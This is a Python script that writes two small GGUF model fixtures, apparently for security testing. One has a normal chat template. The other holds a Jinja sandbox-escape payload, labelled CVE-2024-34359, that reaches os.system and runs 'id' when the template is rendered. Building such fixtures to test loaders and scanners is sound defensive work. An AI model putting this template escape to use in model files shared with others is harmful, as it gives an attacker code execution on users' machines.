#!/usr/bin/env python3
"""Writes small GGUF fixtures with llama.cpp's own writer (`pip install gguf`): a benign
llama-style model with a real chat template, and the same model whose template escapes the
Jinja sandbox (CVE-2024-34359)."""
import numpy as np
import gguf

BENIGN = ("{% for message in messages %}{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' "
          "+ message['content'] | trim + '<|eot_id|>' }}{% endfor %}{% if add_generation_prompt %}"
          "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}")
EVIL = ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}")

for name, template in [("benign_llama.gguf", BENIGN), ("malicious_template.gguf", EVIL)]:
    w = gguf.GGUFWriter(name, "llama")
    w.add_name("tiny-llama")
    w.add_block_count(1)
    w.add_context_length(128)
    w.add_embedding_length(8)
    w.add_head_count(2)
    w.add_tokenizer_model("llama")
    w.add_token_list(["<s>", "</s>", "a", "b"])
    w.add_chat_template(template)
    rng = np.random.default_rng(0)
    w.add_tensor("token_embd.weight", rng.standard_normal((4, 8)).astype(np.float32))
    w.add_tensor("output_norm.weight", np.ones(8, dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
